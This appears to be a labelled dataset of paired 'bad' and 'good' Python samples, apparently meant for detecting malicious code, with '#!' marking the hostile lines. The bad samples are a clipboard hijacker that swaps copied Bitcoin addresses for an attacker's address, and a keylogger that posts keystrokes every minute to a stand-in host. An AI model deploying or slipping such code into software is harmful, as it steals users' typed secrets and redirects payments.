#: bad clipboard
import re
import time

import pyperclip

COIN = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
OWN = "bc1qsyntheticsyntheticsynthetic0000"


def watch():
    while True:
        if COIN.match(pyperclip.paste()):
            pyperclip.copy(OWN) #!
        time.sleep(0.5)
#: good clipboard
import re

import pyperclip

LINK = re.compile(r"^https://[a-z.]+/[a-z]+$")


def paste_link():
    text = pyperclip.paste()
    if LINK.match(text):
        return text
    return None


def copy_result(result):
    pyperclip.copy(str(result))
#: bad typing
from threading import Timer

import requests
from pynput import keyboard

buffer = []


def on_press(key):
    buffer.append(str(key))


def flush():
    requests.post("https://typing.keystats.invalid/k", data="".join(buffer)) #!
    Timer(60, flush).start()


keyboard.Listener(on_press=on_press).start() #!
flush()
#: good typing
from threading import Timer

from pynput import keyboard


def on_activate():
    print("pause")


def timeout():
    hotkeys.stop()


hotkeys = keyboard.GlobalHotKeys({"<ctrl>+<alt>+p": on_activate})
hotkeys.start()
Timer(60, timeout).start()
